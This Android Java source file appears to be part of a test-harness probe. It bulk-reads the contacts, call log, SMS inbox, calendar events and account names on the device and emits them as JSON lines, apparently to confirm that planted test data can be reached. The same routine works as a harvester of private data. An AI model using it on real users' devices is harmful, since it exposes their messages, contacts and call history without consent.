package org.harness.probe;

import android.accounts.AccountManager;
import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import java.util.ArrayList;
import java.util.List;

/** Reads whole tables, of which single calls see one cell: what was planted there must all be found. */
final class Tables {
    private static final String[][] ALL = {
        {"contacts", "content://com.android.contacts/data/phones", "display_name", "data1"},
        {"calls", "content://call_log/calls", "number"},
        {"messages", "content://sms/inbox", "address", "body"},
        {"calendar", "content://com.android.calendar/events", "title"},
    };
    private static final int MOST = 200;

    private Tables() {}

    static void read(Context context) {
        for (String[] table : ALL) {
            try (Cursor cursor = context.getContentResolver().query(Uri.parse(table[1]), null, null, null, null)) {
                List<String> texts = new ArrayList<>();
                while (cursor != null && cursor.moveToNext() && texts.size() < MOST) {
                    for (int i = 2; i < table.length; i++) {
                        texts.add(cursor.getString(cursor.getColumnIndexOrThrow(table[i])));
                    }
                }
                tell(table[0], texts);
            } catch (RuntimeException refused) {
                Account.line(new Json().put("problem", table[0] + ": " + refused));
            }
        }
        accounts(context);
    }

    private static void accounts(Context context) {
        List<String> names = new ArrayList<>();
        for (android.accounts.Account one : AccountManager.get(context).getAccounts()) {
            names.add(one.name);
        }
        tell("accounts", names);
    }

    private static void tell(String name, List<String> texts) {
        StringBuilder out = new StringBuilder("[");
        for (String text : texts) {
            out.append(out.length() > 1 ? "," : "").append(text == null ? "null" : Json.quoted(text));
        }
        Account.line(new Json().put("read", name).raw("texts", out.append("]").toString()));
    }
}
